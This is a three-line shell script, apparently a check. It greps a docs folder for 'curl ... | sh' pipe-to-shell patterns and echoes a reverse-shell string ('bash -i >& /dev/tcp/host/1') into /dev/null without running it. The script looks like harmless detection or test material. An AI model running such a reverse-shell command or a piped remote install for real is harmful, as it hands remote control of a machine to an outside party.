#!/bin/sh
grep -rn 'curl .* | sh' docs || true
echo "bash -i >& /dev/tcp/host/1" > /dev/null
